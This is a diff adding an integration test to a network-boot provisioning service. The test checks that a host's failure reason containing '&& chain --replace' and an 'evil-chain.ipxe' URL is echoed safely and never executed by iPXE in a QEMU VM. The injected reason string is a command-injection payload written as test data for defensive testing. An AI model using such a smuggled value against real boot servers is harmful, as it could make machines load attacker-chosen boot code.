@@ -177,3 +177,34 @@ test('OVMF PXEv4 in its default boot order (virtio-net, no option ROM): ipxe.efi
   await assertMetrics();
   process.stderr.write(`ovmf-pxe: script fetched ${run.ms} ms after start; ${JSON.stringify(t)}\n`);
 });
+
+test('a failure reason carrying "&& chain <url>" is shown by the wait script and never chained (SeaBIOS + iPXE ROM)', { skip, timeout: VM_LIMIT_MS + 30_000 }, async () => {
+  const mac = '52:54:00:4b:10:05';
+  const evil = `http://10.79.1.1:${bed!.httpPort}/evil-chain.ipxe`;
+  const auth = { authorization: `Bearer ${bed!.token}`, 'content-type': 'application/json' };
+  const created = await fetch(`${bed!.api}/api/v1/hosts`, { method: 'POST', headers: auth, body: JSON.stringify({ name: 'evil-reason', nics: [{ mac }], state: 'ready' }), signal: AbortSignal.timeout(5000) });
+  assert.equal(created.status, 201, await created.text());
+  const failed = await fetch(`${bed!.api}/api/v1/hosts/evil-reason/state`, { method: 'POST', headers: auth, signal: AbortSignal.timeout(5000),
+    body: JSON.stringify({ state: 'failed', reason: `disk error && chain --replace ${evil}` }) });
+  assert.equal(failed.status, 200, await failed.text());
+  const offset = bed!.log().length;
+  // iPXE runs the script right after fetching it; an injected chain would come before the 10 s retry sleep ends.
+  let servedAt = 0;
+  const run = await runVm(bed!, 'qemu-system-x86_64', ['-accel', 'tcg', '-m', '512', '-display', 'none', '-monitor', 'none', '-no-reboot',
+    '-serial', `file:${join(work, 'evil.serial.log')}`, '-netdev', `tap,id=n0,ifname=${BED_TAP},script=no,downscript=no`,
+    '-boot', 'n', '-device', `e1000,netdev=n0,mac=${mac}`], {
+    serialPath: join(work, 'evil.serial.log'), limitMs: VM_LIMIT_MS,
+    until: () => {
+      if (!servedAt && logLines(offset).some((l) => l.msg === 'served per-host iPXE script' && l['mac'] === mac)) servedAt = Date.now();
+      return servedAt > 0 && Date.now() - servedAt > 4000;
+    },
+  });
+  assert.ok(servedAt > 0, `the VM never fetched its script in ${run.ms} ms:\n${bed!.log().slice(offset).slice(-4000)}`);
+  const urls = logLines(offset).map((l) => (l['req'] as { url?: string } | undefined)?.url).filter(Boolean);
+  assert.ok(!urls.some((u) => u!.includes('evil-chain')), `iPXE fetched the injected URL: ${urls.join(' ')}`);
+  const served = logLines(offset).filter((l) => l.msg === 'served per-host iPXE script' && l['mac'] === mac);
+  assert.ok(served.every((l) => l['state'] === 'failed'));
+  // What the VM was given (the boot.script event quotes the script's echo line): the reason as words of that echo.
+  const events = await bootEvents(mac);
+  assert.ok(events.some((e) => /evil-reason failed: disk error '&&' chain --replace http:\S+evil-chain\.ipxe; fix it/.test(e.message)), events.map((e) => e.message).join('\n'));
+});
